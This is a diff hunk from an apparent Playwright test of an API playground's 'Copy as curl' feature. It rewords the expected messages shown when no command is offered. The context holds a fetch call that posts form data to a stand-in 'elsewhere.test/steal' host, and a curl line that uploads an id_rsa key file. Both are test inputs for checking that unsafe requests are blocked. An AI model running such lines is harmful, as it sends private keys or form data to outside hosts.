@@ -330,10 +330,10 @@ await fetch('https://elsewhere.test/steal', { method: 'POST', body: form }).catc
     `curl https://api.example.com/v1/echo \\\n  --form 'key=@id_rsa;type=application/octet-stream'`,
   )
   await expect(exchanges.nth(1)).toContainText(
-    'No command: the request has characters that are not safe in a terminal.',
+    'No curl command: the request has characters that are not safe in a terminal.',
   )
   await expect(exchanges.nth(2)).toContainText(
-    'No command: the playground reaches https://api.example.com only.',
+    'No curl command: only https://api.example.com exists in the playground.',
   )
   await expect(button(results(place), 'Copy as curl')).toHaveCount(0)
 })
